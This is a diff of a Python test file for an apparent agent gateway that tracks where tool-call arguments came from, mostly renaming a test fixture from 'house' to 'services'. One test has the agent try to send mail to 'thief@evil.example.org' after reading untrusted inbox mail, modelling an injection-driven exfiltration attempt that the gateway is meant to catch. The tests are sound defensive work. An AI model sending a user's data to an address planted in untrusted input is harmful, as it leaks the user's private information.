@@ -12,8 +12,8 @@ from remit.core.evidence.event import EventKind
 from remit.gateway.endpoints import mcp_endpoint
 from tests.samples.tokens import task_token
 from tests.worlds.flow import FlowWorld, flow_world
-from tests.worlds.house import exchange
 from tests.worlds.mcp_endpoint import ENVELOPE, MODERN
+from tests.worlds.services import exchange
 
 
 @pytest.fixture
@@ -37,7 +37,7 @@ async def test_a_decision_says_what_justified_each_argument(world: FlowWorld) ->
     (origin,) = by_name[2]["to"]["origins"]
     assert origin[0] == read["number"] == 1
     assert origin[2:] == ["office/read_mail", "[].body", "untrusted"]
-    entries = await world.house.evidence.log.pages(limit=1000)
+    entries = await world.services.evidence.log.pages(limit=1000)
     (first,) = [
         one
         for one in entries
@@ -89,8 +89,8 @@ async def test_the_agent_is_told_the_chain_on_the_wire(world: FlowWorld) -> None
     """A granted tool with a wrong argument gets the full reason: the argument, and how it came in."""
     await world.open("Summarise my mail")
     await world.run("read_mail", folder="inbox")
-    token = await task_token(world.house, world.task.id)
-    endpoint = mcp_endpoint(world.house)
+    token = await task_token(world.services, world.task.id)
+    endpoint = mcp_endpoint(world.services)
     params = {
         "name": "send_mail",
         "arguments": {"to": "thief@evil.example.org", "body": "x"},
@@ -141,8 +141,8 @@ async def test_a_child_trusts_nothing_where_its_parent_is_not_at_hand(world: Flo
     await world.open("Mail Bob Stone or ann@example.com")
     parent = world.task.id
     await world.hand_down()
-    world.house.tasks.live.drop(world.task.id)
-    world.house.tasks.live.drop(parent)
+    world.services.tasks.live.drop(world.task.id)
+    world.services.tasks.live.drop(parent)
     world.office.answers["find_contact"] = [{"name": "Bob Stone", "email": "bob@example.com"}]
     await world.run("find_contact", name="Bob Stone")
     assert await world.outcome("send_mail", to="bob@example.com", body="x") is Outcome.DEFER
